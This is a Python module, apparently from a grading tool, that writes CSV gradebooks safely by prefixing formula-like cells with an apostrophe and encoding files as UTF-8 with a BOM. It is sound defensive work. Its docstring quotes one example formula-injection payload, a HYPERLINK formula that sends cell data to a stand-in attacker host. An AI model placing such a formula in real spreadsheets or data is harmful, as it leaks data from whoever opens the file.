"""CSV that a spreadsheet opens safely and reads right: no cell runs as a formula, accents survive Excel.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula, so a display name
such as ``=HYPERLINK("http://evil.example/?x="&A1,"Eve")`` copied from a
roster would run when the instructor opens gradebook.csv. Such a cell is
written with a leading apostrophe, which spreadsheets show as a text
marker, not as data to run; the rest of the text is kept. Excel on Windows
reads a CSV without a byte-order mark in the machine's legacy code page
(``Zoë`` becomes ``ZoÃ«``), so the files are written as UTF-8 with a BOM,
which every spreadsheet and Python's ``utf-8-sig`` read as UTF-8.
"""

from __future__ import annotations

import csv
from typing import Any, Iterable

#: First characters that make a spreadsheet treat a cell as a formula (or split it into one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: First characters a cell needs a closer look for: a formula start, or a space that may hide one.
_RISKY_FIRST = frozenset("".join(FORMULA_STARTS) + " ")
#: What is put before such a cell.
TEXT_MARKER = "'"
#: The encoding of every CSV the grader writes for a spreadsheet: UTF-8 with a byte-order mark.
ENCODING = "utf-8-sig"


def safe_cell(value: Any) -> str:
    """``value`` as CSV cell text that no spreadsheet runs: a formula-like start gets an apostrophe before it.

    Leading spaces are looked through, since some spreadsheets trim them
    on import and would then see the ``=``.
    """
    text = "" if value is None else str(value)
    # Most cells (scores, statuses, ids) start with none of these: one set lookup settles them, which
    # matters for a gradebook of thousands of rows of a dozen cells.
    if text[:1] in _RISKY_FIRST and (text.startswith(FORMULA_STARTS)
                                     or text.lstrip(" ").startswith(FORMULA_STARTS[:4])):
        return TEXT_MARKER + text
    return text


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, each cell made safe."""
        self._writer.writerow([safe_cell(cell) for cell in row])
